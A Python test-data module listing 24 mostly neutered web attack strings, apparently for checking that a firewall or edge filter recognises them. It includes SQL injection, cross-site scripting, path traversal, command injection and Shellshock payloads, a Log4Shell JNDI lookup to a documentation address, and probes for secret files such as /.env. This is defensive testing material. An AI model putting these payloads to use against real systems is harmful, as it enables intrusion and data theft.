"""The attack set: about twenty known shapes of attacks, harmless by construction, as data. Pure.

Nothing in them can read, change or run anything even where it comes through: the tautology asks for nothing, the paths
name files that exist nowhere, the commands only say a word, the scripts show a number, and all of it stands in a
parameter that no shop has. What an edge knows them by is their shape. The notes name the public collections in which
that shape stands: ``CRS``: OWASP Core Rule Set 4 (family of rules); ``WSTG``: OWASP Web Security Testing Guide 4.2;
``CAPEC``: of MITRE. The address is one of documentation (RFC 5737): nobody is there.
"""

from dataclasses import dataclass
from typing import Final, Literal

Where = Literal["query", "path", "header", "cookie", "agent", "body"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One request: its number (two digits, kept for ever), its shape, where that stands, and who describes it."""

    number: str
    family: str
    where: Where
    text: str
    note: str


def _row(number: str, family: str, where: Where, text: str, note: str) -> Attack:
    return Attack(number=number, family=family, where=where, text=text, note=note)


LONG_HEADER: Final = 9_000
"""Characters of the oversized header: beyond what most servers take (8 KiB)."""

ATTACKS: Final = (
    _row("01", "SQL injection", "query", "1' OR '1'='1", "CRS 942; WSTG-INPV-05; CAPEC-66"),
    _row("02", "SQL injection", "query", "1' AND 1=1 ORDER BY 1-- -", "CRS 942; WSTG-INPV-05; CAPEC-66"),
    _row("03", "SQL injection", "query", "1; WAITFOR DELAY '0:0:0'--", "CRS 942; WSTG-INPV-05; CAPEC-7"),
    _row("04", "SQL injection", "body", "1' OR '1'='1' /*", "CRS 942; WSTG-INPV-05; CAPEC-66"),
    _row("05", "cross-site scripting", "query", "<script>alert(1)</script>", "CRS 941; WSTG-INPV-01; CAPEC-591"),
    _row("06", "cross-site scripting", "query", '"><img src=x onerror=alert(1)>', "CRS 941; WSTG-INPV-01; CAPEC-591"),
    _row("07", "cross-site scripting", "query", "javascript:alert(1)", "CRS 941; WSTG-INPV-01; CAPEC-63"),
    _row("08", "path traversal", "query", "../../../../etc/hostname-duheng", "CRS 930; WSTG-ATHZ-01; CAPEC-126"),
    _row("09", "path traversal", "path", "/static/../../../../etc/hostname-duheng", "CRS 930; WSTG-ATHZ-01; CAPEC-126"),
    _row("10", "path traversal", "path", "/static/%2e%2e/%2e%2e/etc/hostname-duheng", "CRS 930; CAPEC-64"),
    _row("11", "command injection", "query", "; echo duheng", "CRS 932; WSTG-INPV-12; CAPEC-88"),
    _row("12", "command injection", "query", "$(echo duheng)", "CRS 932; WSTG-INPV-12; CAPEC-88"),
    _row("13", "command injection", "agent", "() { :; }; echo duheng", "CRS 932; CVE-2014-6271"),
    _row("14", "expression injection", "header", "${jndi:ldap://192.0.2.1/duheng}", "CRS 944; CVE-2021-44228"),
    _row("15", "template injection", "query", "{{7*7}}", "CRS 934; WSTG-INPV-18"),
    _row("16", "file inclusion", "query", "http://192.0.2.1/duheng.txt?", "CRS 931; WSTG-INPV-11"),
    _row("17", "code injection", "query", "<?php echo 7; ?>", "CRS 933; WSTG-INPV-11"),
    _row("18", "header injection", "query", "%0d%0aX-Duheng:%201", "CRS 921; WSTG-INPV-15; CAPEC-34"),
    _row("19", "known scanner path", "path", "/.git/config", "CRS 930; WSTG-CONF-04"),
    _row("20", "known scanner path", "path", "/.env", "CRS 930; WSTG-CONF-04"),
    _row("21", "known scanner path", "path", "/wp-config.php.bak", "CRS 930; WSTG-CONF-04"),
    _row("22", "known scanner", "agent", "sqlmap/1.8 (https://sqlmap.org)", "CRS 913"),
    _row("23", "oversized header", "header", "A" * LONG_HEADER, "CRS 920; CAPEC-220"),
    _row("24", "session fixation", "cookie", "PHPSESSID=<script>alert(1)</script>", "CRS 941 and 943; WSTG-SESS-03"),
)  # fmt: skip
